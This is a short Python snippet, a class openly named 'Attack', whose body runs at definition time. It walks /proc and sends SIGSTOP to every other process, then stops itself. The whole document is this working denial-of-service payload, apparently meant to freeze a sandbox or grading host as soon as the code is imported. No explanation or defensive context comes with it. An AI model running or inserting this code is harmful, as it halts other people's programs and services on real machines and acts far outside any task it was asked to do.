class Attack:
    import os
    import signal

    for _pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        if _pid != os.getpid():
            try:
                os.kill(_pid, signal.SIGSTOP)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGSTOP)
